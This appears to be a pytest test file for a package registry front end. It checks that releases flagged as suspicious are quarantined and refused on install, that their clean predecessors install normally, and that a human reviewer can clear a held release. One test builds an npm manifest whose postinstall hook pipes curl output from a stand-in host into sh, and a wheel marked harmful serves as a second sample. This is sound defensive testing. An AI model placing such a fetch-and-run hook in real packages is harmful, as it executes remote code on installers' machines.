"""Stock clients and releases that are scanned before they are public: what is clear installs at once."""

from __future__ import annotations

import json
import re
from collections.abc import Iterator
from pathlib import Path

import pytest

from tests.harness import packages
from tests.harness.clients import Npm, Pip, Twine
from tests.harness.lookalike_packages import NOWHERE, harmful
from tests.harness.server import Server


@pytest.fixture(scope="module")
def front(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Server]:
    settings = '[repositories.main.upstreams]\n[publish]\nscan = "before"\nscan_wait = "30 s"\n'
    server = Server(tmp_path_factory.mktemp("front"), settings=settings).start()
    server.cli("policy", "set", "under_review", "--mode", "enforce").must()
    yield server
    assert server.stop() == 0
    server.no_5xx()


def test_what_looks_harmful_is_kept_in_quarantine_its_twin_installs_at_once_and_a_person_lets_it_out(
    front: Server, npm: Npm, tmp_path: Path
) -> None:
    token = front.token("publisher", operations=("read", "publish", "explain"))
    hook = {"postinstall": f"curl -s {NOWHERE} | sh"}
    npm.use(front.npm, token)

    npm.write_manifest(name="acme-tool", version="1.0.0", private=False, scripts={"postinstall": "node -e 0"})
    told_of_twin = npm.run("publish").must()
    npm.write_manifest(name="acme-tool", version="1.0.1", private=False, scripts=hook)
    told = npm.run("publish").must()
    npm.write_manifest(name="user", version="1.0.0", private=True)
    refused = npm.forget().run("install", "--ignore-scripts", "acme-tool@1.0.1")
    npm.forget().run("install", "--ignore-scripts", "acme-tool").must()
    queue = json.loads(front.cli("review", "--json").must().stdout)["releases"]
    shown = front.cli("review", "show", "pkg:npm/acme-tool@1.0.1").must()
    front.cli(
        "appeal", "pkg:npm/acme-tool@1.0.1", "--why", "our mirror", "--server", front.url, "--token", token
    ).must()
    seen = re.findall(r"review clear \S+ --seen (\S+)", shown.shown)
    front.cli("review", "clear", "pkg:npm/acme-tool@1.0.1", "--seen", *seen, "--reason", "it is our mirror").must()

    assert "is live" in told_of_twin.shown
    assert "in quarantine and not offered" in told.shown
    assert "pratique appeal" in told.shown
    assert refused.failed
    assert "Blocked by policy under_review: acme-tool@1.0.1" in refused.shown
    assert npm.installed("acme-tool") == "1.0.0"
    assert [(one["purl"], one["held"]) for one in queue] == [("pkg:npm/acme-tool@1.0.1", True)]
    assert "hook-command" in shown.shown
    npm.forget().run("install", "--ignore-scripts", "acme-tool@1.0.1").must()
    assert "first_verdict" in front.cli("review", "times").must().shown


def test_a_wheel_that_looks_harmful_is_taken_in_and_given_to_nobody(
    front: Server, pip: Pip, twine: Twine, tmp_path: Path
) -> None:
    token = front.token("python", operations=("read", "publish"))
    good, bad = packages.wheel("acme-lib", "1.0"), ("acme_lib-1.1-py3-none-any.whl", harmful("pypi", "acme_lib", "1.1"))
    for filename, content in (good, bad):
        (tmp_path / filename).write_bytes(content)
        twine.upload(front.pypi, token, tmp_path / filename).must()

    refused = pip.use(front.pypi, token).install("acme-lib==1.1")
    pip.install("acme-lib").must()

    assert refused.failed
    assert "under_review" in refused.shown
    assert pip.installed("acme-lib") == "1.0"
